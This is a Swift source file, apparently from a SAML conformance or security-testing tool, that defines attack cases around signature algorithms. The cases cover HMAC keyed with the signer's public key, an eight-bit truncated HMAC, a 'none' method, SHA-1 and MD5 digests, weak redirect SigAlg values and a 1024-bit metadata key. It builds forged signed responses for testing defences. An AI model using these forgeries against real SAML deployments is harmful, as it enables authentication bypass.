import SAML
import XMLSecurity

// Weaker algorithms, and algorithms that make a secret of a public key.
extension Attack {
    private static let hmac = "CVE-2009-0217, pysaml2 HMAC key data"
    private static let weak = "SHAttered, SHA-1 is a Shambles; saml2int SDP-ALG01, SDP-MD06"
    private static let dsig = SignatureDraft.namespace
    private static let more = "http://www.w3.org/2001/04/xmldsig-more#"

    static let algorithms: [Attack] = [
        secret("hmac-public-key", "HMAC with the public key as the secret", "以公钥作密钥的 HMAC", content: "") { $0 },
        secret(
            "hmac-truncated",
            "HMAC cut to eight bits",
            "截断为八比特的 HMAC",
            content: "<ds:HMACOutputLength>8</ds:HMACOutputLength>"
        ) { [$0[0]] },
        method("method-none", "none", "A signature method \"none\"", "签名算法为 none", hmac, 32),
        method("rsa-sha1", dsig + "rsa-sha1", "rsa-sha1", "rsa-sha1", weak, 33),
        method("rsa-md5", more + "rsa-md5", "rsa-md5", "rsa-md5", weak, 33),
        response(33, "digest-sha1", "A SHA-1 digest", "SHA-1 摘要", weak, [.algorithm]) {
            let bare = try $0.parts().bare
            return try $0.resigned(draft: {
                $0.references[0].digest = SHA1.digest(Array(bare.utf8))
                $0.references[0].digestMethod = DigestAlgorithm.sha1.rawValue
            })
        },
        response(33, "digest-md5", "An MD5 digest", "MD5 摘要", weak, [.algorithm]) {
            try $0.resigned(draft: { $0.references[0].digestMethod = more + "md5" })
        },
        query(33, "redirect-sha1", "SigAlg rsa-sha1 on a redirect", "重定向绑定中 SigAlg 为 rsa-sha1", weak, [.algorithm]) {
            try signed($0, naming: dsig + "rsa-sha1")
        },
        query(33, "redirect-hmac", "SigAlg HMAC on a redirect", "重定向绑定中 SigAlg 为 HMAC", weak, [.algorithm]) {
            try signed($0, naming: more + "hmac-sha256")
        },
        metadata(33, "metadata-rsa-1024", "A partner's key of 1024 bits", "伙伴密钥只有 1024 位", weak, [.key]) {
            var surgery = Surgery(try $0.unsignedMetadata())
            let short = Base64.encode(try ShortKeyCertificate.der(like: $0.signer.certificate))
            try surgery.replace($0.signer.certificate.base64, with: short)
            return try $0.signMetadata(surgery.text)
        },
    ]

    private static func secret(
        _ id: String,
        _ en: String,
        _ zh: String,
        content: String,
        _ cut: @escaping @Sendable ([UInt8]) -> [UInt8]
    ) -> Attack {
        response(32, id, en, zh, hmac, [.algorithm]) { material in
            let parts = try material.parts()
            let evil = try parts.evil()
            var draft = SignatureDraft([.init("#_evil", over: evil)])
            draft.method = more + "hmac-sha256"
            draft.methodContent = content
            let key = material.signer.certificate.publicKey.der
            let code = Digest.hmacSHA256(Array(draft.signedInfo().utf8), key: key)
            return try parts.with(Parts.signed(evil, draft.element(value: cut(code)))).octets
        }
    }

    private static func method(
        _ id: String,
        _ uri: String,
        _ en: String,
        _ zh: String,
        _ source: String,
        _ number: Int
    ) -> Attack {
        response(number, id, en, zh, source, [.algorithm]) { try $0.resigned(draft: { $0.method = uri }) }
    }

    private static func signed(_ material: AttackMaterial, naming algorithm: String) throws -> String {
        let unsigned = try material.query(material.request().unsigned(), signedBy: nil)
        let query = unsigned + "&SigAlg=" + PercentEncoding.encode(algorithm, .lower)
        let value = try material.signer.privateKey.sign(Array(query.utf8), with: .rsaSHA256)
        return query + "&Signature=" + PercentEncoding.encode(Base64.encode(value), .lower)
    }
}
